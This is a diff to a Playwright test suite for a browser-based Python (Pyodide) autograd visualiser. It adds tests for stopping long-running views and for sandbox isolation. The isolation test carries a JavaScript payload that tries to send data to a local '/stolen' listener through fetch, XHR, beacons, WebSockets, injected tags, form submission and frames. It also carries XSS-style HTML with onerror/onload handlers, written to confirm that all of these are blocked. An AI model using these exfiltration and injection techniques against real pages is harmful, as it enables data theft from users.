@@ -9,6 +9,7 @@ from collections.abc import Callable, Iterator
 from hashlib import sha256
 from itertools import chain
 from pathlib import Path
+from socket import create_server, socket
 from types import SimpleNamespace
 from typing import Any
 from zipfile import ZipFile
@@ -188,6 +189,53 @@ def test_somebody_need_not_wait(live: Live) -> None:
     live.tells("Stopped.")
 
 
+SLOW_TO_CHECK = """\
+import chainrule.live.showing as showing
+from autograd import Value
+def slow(run, room):
+    while True: pass
+showing.KINDS["check"] = slow
+x = Value(3.0, "x")
+y = x * x
+"""
+
+
+def test_a_view_that_takes_long_can_be_stopped_and_the_others_are_still_there(live: Live) -> None:
+    live.open(SLOW_TO_CHECK)
+    live.shows("y, a graph of 2 nodes")
+    live.page.click("#tab-check")
+    live.page.click("#stop")
+    live.sees("Stopped. Python has started anew, and other views can be opened.")
+    live.shows("y, a graph of 2 nodes")
+    live.page.click("#tab-graph")
+    live.sees("x = 3")
+    live.page.click("#tab-derivation")
+    live.sees("its derivatives")
+    assert live.page.is_hidden("#stop")
+
+
+def test_what_a_text_did_to_python_is_gone_with_it(live: Live) -> None:
+    live.open(
+        "from chainrule.live import Session\n"
+        "Session._run_text = lambda self, text, *more: dict(\n"
+        "    printed='I have seen ' + text, trouble=None, shown='')\n"
+    )
+    live.sees("the code makes no Value")
+    live.type("shown='')", "  # more")
+    live.page.locator("#printed", has_text="I have seen from").wait_for(timeout=PATIENCE)
+    live.page.select_option("#examples", label="A sum over two paths")
+    live.shows("y, a graph of 4 nodes")
+    assert "seen" not in live.page.inner_text("#printed")
+
+
+def test_a_text_that_is_opened_need_not_wait_for_the_one_before(live: Live) -> None:
+    live.open("while True:\n    pass")
+    live.page.locator("#stop").wait_for(timeout=PATIENCE)  # it runs
+    live.open(EXAMPLES[1].text)
+    live.shows("y, a graph of 4 nodes")
+    assert live.page.is_hidden("#trouble")
+
+
 def test_keys_indent_and_leave(live: Live) -> None:
     live.open("")
     live.type("", "for k in range(2):\nprint(k)")
@@ -246,7 +294,7 @@ def tried(what):
         print("refused")
 asked = js.XMLHttpRequest.new()
 asked.open("GET", "{there}", False)
-js.WebSocket.new("ws://127.0.0.1:9/")
+js.WebSocket.new("{there}".replace("http", "ws"))
 tried(asked.send)
 tried(lambda: js.indexedDB.open("notebooks"))
 tried(lambda: js.eval("import('{there}?import')"))
@@ -254,29 +302,92 @@ tried(lambda: js.document)
 import viz.drawing.svg, chainrule.live.showing as showing
 change = "parent.code.value = 1"
 html = f"<img src='{there}?img' onerror='{{change}}'><svg onload='{{change}}'></svg>"
-showing.KINDS["graph"] = lambda run, room: dict(html=html + "seen <a href='{there}'>so</a>")
-page = "<script>location = '{there}?away'; top.code.value = 1</script>"
-showing.KINDS["steps"] = lambda run, room: dict(page=page, title="x", computes=False)
+for rel in "preconnect", "dns-prefetch", "prefetch":
+    html += f"<link rel={{rel}} href='{there}'>"
+html += "<meta http-equiv=refresh content='0; url={there}'><iframe src='{there}'></iframe>"
+showing.KINDS["graph"] = lambda run, room: dict(html=html + {page!r} + "<p>seen so</p>")
+made = showing.graph_of
+def graph_of(run):
+    return made(run) | dict(heading=[], title={page!r}, page={page!r})
+showing.graph_of = graph_of
+steps = showing.KINDS["steps"]
+showing.KINDS["steps"] = lambda run, room: steps(run, room) | dict(page={page!r}, title="x")
 from autograd import Value
 y = Value(1.0)
 """
+HOSTILE = """<!DOCTYPE html><p id="ran"></p><script>
+const there = "{there}";
+const add = (name, how) => new Promise((settle) => {{
+  const element = Object.assign(document.createElement(name), how);
+  element.onload = element.onerror = settle;
+  document.head.append(element);
+}});
+const sent = (way) => new Promise((settle) => {{
+  const request = new XMLHttpRequest();
+  request.onloadend = settle;
+  request.open(way, there);
+  request.send("x");
+}});
+const tries = [
+  () => fetch(there), () => fetch(there, {{ method: "POST", mode: "no-cors", body: "x" }}),
+  () => sent("GET"), () => sent("POST"),
+  () => navigator.sendBeacon(there, "x"),
+  () => new Promise((settle) => {{ new WebSocket(there.replace("http", "ws")).onerror = settle; }}),
+  () => new Promise((settle) => {{ new EventSource(there).onerror = settle; }}),
+  () => import(there + "?import"),
+  () => add("img", {{ src: there }}), () => add("script", {{ src: there }}),
+  () => add("iframe", {{ src: there }}), () => add("object", {{ data: there }}),
+  ...["stylesheet", "prefetch", "preload", "dns-prefetch", "modulepreload"]
+    .map((rel) => () => add("link", {{ rel, href: there, as: "script" }})),
+  () => new Promise((settle) => {{
+    const frame = document.createElement("iframe");
+    frame.srcdoc = `<script>fetch("${{there}}")<\\/script>`;
+    frame.onload = settle;
+    document.head.append(frame);
+  }}),
+  () => {{
+    const form = document.createElement("form");
+    Object.assign(form, {{ action: there, method: "post" }});
+    document.body.append(form);
+    form.submit();
+  }},
+  () => {{ open(there); }},
+  () => {{ top.code.value = 1; }},
+];
+(async () => {{
+  const waited = () => new Promise((settle) => setTimeout(settle, 500));
+  for (const one of tries) await Promise.race([(async () => one())().catch(() => {{}}), waited()]);
+  const ran = document.getElementById("ran");
+  ran.textContent = "ran to its end";
+  ran.onclick = () => {{ location = there; }};
+}})();
+</script>"""
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[socket]:
+    """Where nobody is to call."""
+    with create_server(("127.0.0.1", 0)) as listening:
+        listening.setblocking(False)
+        yield listening
 
 
 def test_a_strangers_code_reaches_neither_the_network_nor_the_page(
-    context: Any, address: str, server: Served
+    context: Any, address: str, elsewhere: socket
 ) -> None:
-    there = address.replace("/live/", "/pyodide/stolen")
+    there = f"http://127.0.0.1:{elsewhere.getsockname()[1]}/stolen"
     stranger = Live(context.new_page(), address)
     stranger.shows("y, a graph of 6 nodes")
-    stranger.open(ATTACK.format(there=there))
+    stranger.open(ATTACK.format(there=there, page=HOSTILE.format(there=there)))
     stranger.sees("seen so")
     assert stranger.page.inner_text("#printed").splitlines() == ["refused"] * 4
     stranger.page.click("#tab-steps")
-    stranger.page.locator("#frames iframe >> nth=1").wait_for()
-    stranger.page.wait_for_timeout(500)
+    stranger.steps.locator("#title, #ran", has_text="ran to its end").wait_for(timeout=PATIENCE)
+    assert "<script>" in stranger.steps.locator("#title").inner_text()  # a text, and no script
     assert stranger.code.startswith("import js")
     assert any("stolen" in request for request in stranger.requests)  # it was tried, and refused:
-    assert not any("stolen" in path for path in server.asked)
+    with pytest.raises(BlockingIOError):
+        elsewhere.accept()
     stranger.page.close()
 
 
